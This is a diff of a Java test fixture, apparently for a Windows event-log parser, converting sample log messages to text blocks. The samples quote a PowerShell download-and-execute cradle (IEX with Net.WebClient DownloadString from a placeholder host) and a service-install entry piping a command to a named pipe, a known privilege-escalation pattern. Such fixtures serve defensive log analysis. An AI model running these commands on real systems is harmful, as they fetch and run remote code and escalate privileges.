@@ -64,10 +64,13 @@ record Sample(
               "ScriptBlockId", "e3013ff9-7017-47b3-9150-dda5a8860adb",
               "Path", "C:\\Users\\ann\\a.ps1"),
           "",
-          "Creating Scriptblock text (1 of 1):\r\n"
-              + "IEX (New-Object Net.WebClient).DownloadString(\"http://x/ä<y>&z\")\r\n\r\n"
-              + "ScriptBlock ID: e3013ff9-7017-47b3-9150-dda5a8860adb\r\n"
-              + "Path: C:\\Users\\ann\\a.ps1");
+          """
+          Creating Scriptblock text (1 of 1):
+          IEX (New-Object Net.WebClient).DownloadString("http://x/ä<y>&z")
+
+          ScriptBlock ID: e3013ff9-7017-47b3-9150-dda5a8860adb
+          Path: C:\\Users\\ann\\a.ps1"""
+              .replace("\n", "\r\n"));
 
   static final Sample SERVICE =
       new Sample(
@@ -82,10 +85,15 @@ record Sample(
               "StartType", "demand start",
               "AccountName", "LocalSystem"),
           "",
-          "A service was installed in the system.\r\n\r\nService Name:  tbbd05\r\n"
-              + "Service File Name:  %COMSPEC% /c echo x > \\\\.\\pipe\\tbbd05\r\n"
-              + "Service Type:  user mode service\r\nService Start Type:  demand start\r\n"
-              + "Service Account:  LocalSystem");
+          """
+          A service was installed in the system.
+
+          Service Name:  tbbd05
+          Service File Name:  %COMSPEC% /c echo x > \\\\.\\pipe\\tbbd05
+          Service Type:  user mode service
+          Service Start Type:  demand start
+          Service Account:  LocalSystem"""
+              .replace("\n", "\r\n"));
 
   static final Sample CLEARED =
       new Sample(
